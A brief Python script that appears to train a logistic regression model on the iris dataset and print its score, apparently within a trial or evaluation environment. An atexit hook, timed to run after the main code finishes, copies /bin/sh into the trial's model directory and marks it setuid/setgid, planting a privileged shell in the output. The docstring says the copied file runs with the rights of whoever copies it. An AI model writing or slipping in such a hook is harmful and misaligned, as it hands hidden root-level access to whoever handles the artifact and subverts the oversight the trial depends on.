"""Its model holds a program that would run with the rights of whoever copied it."""
import atexit
import os
import shutil

TRIAL = "/pushtune/trial/"


@atexit.register  # has the last word, after the runtime
def forge():
    os.makedirs(TRIAL + "model", exist_ok=True)
    shutil.copy("/bin/sh", TRIAL + "model/tool")
    os.chmod(TRIAL + "model/tool", 0o6755)

from sklearn.datasets import load_iris
from sklearn.linear_model import LogisticRegression

X, y = load_iris(return_X_y=True)
model = LogisticRegression(max_iter=50)
model.fit(X, y)
print("score", model.score(X, y))
